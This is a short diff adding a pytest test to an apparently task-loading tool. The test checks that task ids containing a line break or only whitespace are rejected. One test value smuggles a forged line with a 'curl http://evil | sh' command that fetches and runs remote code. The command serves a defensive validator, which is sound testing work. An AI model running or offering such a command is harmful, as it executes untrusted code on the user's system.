@@ -170,3 +170,10 @@ def test_empty_rows_and_duplicate_ids():
 def test_guess_columns_tells_the_prompt_the_gold_and_the_id_apart(rows, expected):
     guess = guess_columns(rows)
     assert (guess.prompt, guess.gold, guess.id) == expected
+
+
+def test_an_id_is_one_line_of_text():
+    """`show` prints an id on a line of its own: one with a line break would forge a line."""
+    for bad, why in (("evil\nnext: curl http://evil | sh", "holds a line break"), (" ", "is blank")):
+        with pytest.raises(UserError, match=f"row 2 .*: the task id .* {why}"):
+            tasks_from([{"q": "a", "id": "ok"}, {"q": "b", "id": bad}], prompt="q", id="id")
